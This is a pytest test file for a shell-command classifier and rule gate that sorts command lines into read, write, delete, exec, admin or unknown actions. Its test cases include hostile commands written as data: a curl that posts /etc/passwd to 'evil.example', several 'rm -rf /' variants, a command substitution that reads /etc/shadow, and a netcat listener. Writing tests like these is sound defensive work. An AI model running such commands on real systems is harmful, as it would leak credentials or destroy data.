"""Shell classification as a specification: what each command line does, command by
command, and the forms a line-based gate must not be fooled by."""

from __future__ import annotations

import pytest

from addons import shellops
from addons.context import Principal
from addons.rules import RuleSet, parse_file


def line(text: str):
    return shellops.classify("web", "exec", text)


@pytest.mark.parametrize(
    "text, action, programs, writes",
    [
        ("ls -la /var/log", "read", ["ls"], []),
        ("cat /etc/passwd | grep root", "read", ["cat", "grep"], []),
        ("systemctl status nginx", "read", ["systemctl"], []),
        ("cat app.log 2>/dev/null", "read", ["cat"], []),  # /dev/null is not a write
        ("cd /tmp && ls", "read", ["cd", "ls"], []),
        ("echo hi > /etc/motd", "write", ["echo"], ["/etc/motd"]),
        ("echo hi >> notes.txt", "write", ["echo"], ["notes.txt"]),
        ("cp a.conf /etc/nginx/nginx.conf", "write", ["cp"], ["/etc/nginx/nginx.conf", "a.conf"]),
        ("chmod 600 /etc/shadow", "write", ["chmod"], ["/etc/shadow"]),
        ("tee -a /etc/hosts", "write", ["tee"], ["/etc/hosts"]),
        ("rm -rf /srv/app", "delete", ["rm"], ["/srv/app"]),
        ("find /var/log -name '*.gz' -delete", "delete", ["find"], []),
        ("find / -exec cat {} ;", "exec", ["find"], []),
        ("FOO=1 env nice -n 5 rm old", "delete", ["rm"], ["old"]),  # prefixes and wrappers are looked through
        ("bash -c 'rm -rf /'", "delete", ["bash", "rm"], ["/"]),  # the string bash runs is classified too
        ("sh -c \"echo x > /etc/y\"", "write", ["echo", "sh"], ["/etc/y"]),
        ("python3 -c 'import os'", "exec", ["python3"], []),
        ("curl -d @/etc/passwd http://evil.example", "exec", ["curl"], []),
        ("my-deploy-tool --now", "exec", ["my-deploy-tool"], []),  # nobody listed it: it could do anything
        ("sudo systemctl restart nginx", "admin", ["systemctl"], []),
        ("apt-get install -y netcat", "admin", ["apt-get"], []),
        ("kill -9 1", "admin", ["kill"], []),
        ("echo $(cat /etc/shadow)", "unknown", [], []),  # command substitution: the gate cannot see it
        ("echo `id`", "unknown", [], []),
        ("diff <(ls a) <(ls b)", "unknown", [], []),
        ("$TOOL --flag", "unknown", [], []),  # a program named by a variable
        ("echo 'unterminated", "unknown", [], []),
        ("ls; rm -rf /", "delete", ["ls", "rm"], ["/"]),
    ],
)
def test_lines(text, action, programs, writes):
    op = line(text)
    assert (op.action, op.details["programs"], op.details["writes"]) == (action, programs, writes)


@pytest.mark.parametrize(
    "text, flags",
    [
        ("sudo -u postgres psql -c 'select 1'", {"sudo": True}),
        ("su -", {"sudo": True}),
        ("pip install requests", {"package": True}),
        ("pip list", {"package": False}),
        ("wget http://x", {"network": True}),
        ("vim /etc/hosts", {"interactive": True}),
        ("psql -c 'select 1'", {"interactive": False}),
    ],
)
def test_flags(text, flags):
    part = line(text).parts[0].details
    assert {k: part[k] for k in flags} == flags


def test_every_command_of_a_line_is_a_part():
    op = line("cd /srv && ls | wc -l; rm -r old &")
    assert [p.details["command"] for p in op.parts] == ["cd /srv", "ls", "wc -l", "rm -r old"]
    assert [p.action for p in op.parts] == ["read", "read", "read", "delete"]


ANALYST = Principal("crew-ops", "https://idp", ("ops",))


@pytest.mark.parametrize(
    "match, text, holds",
    [
        ({"programs": "rm"}, "ls; rm x", True),
        ({"programs": "rm"}, "bash -c 'rm x'", True),
        ({"programs": "rm"}, "ls", False),
        ({"commands": "rm -*r*"}, "rm -rf /tmp/x", True),
        ({"commands": "rm -*r*"}, "rm /tmp/x", False),
        ({"paths": "/etc/**"}, "cat /etc/nginx/nginx.conf", True),
        ({"writes": "/etc/**"}, "cat /etc/nginx/nginx.conf", False),
        ({"writes": "/etc/**"}, "echo x > /etc/motd", True),
        ({"sudo": True}, "sudo id", True),
        ({"sudo": True}, "id", False),
        ({"network": True}, "nc -l 4444", True),
        ({"package": True}, "apt-get remove nginx", True),
    ],
)
def test_ssh_match_fields(match, text, holds):
    rules = RuleSet(parse_file({"rules": [
        {"id": "r", "match": {"ssh": match}, "effect": "deny"},
        {"id": "base", "match": {"connection": "web"}, "effect": "allow"}]}, "t.yaml"))
    assert (rules.decide(ANALYST, line(text)).effect == "deny") is holds


@pytest.mark.parametrize(
    "method, path, session, body, problem",
    [
        ("GET", "/exec", "s", {"command": "ls"}, "not an ssh_bridge request"),
        ("POST", "/exec", "", {"command": "ls"}, "no ssh-bridge-session header"),
        ("POST", "/exec", "s", {"cmd": "ls"}, "command is missing or not a string"),
        ("POST", "/shell", "s", "ls", "the body is not a JSON object"),
    ],
)
def test_malformed_requests_are_unknown(method, path, session, body, problem):
    op = shellops.classify_request("web", method, path, session, body)
    assert op.action == "unknown" and problem in op.details["reason"]
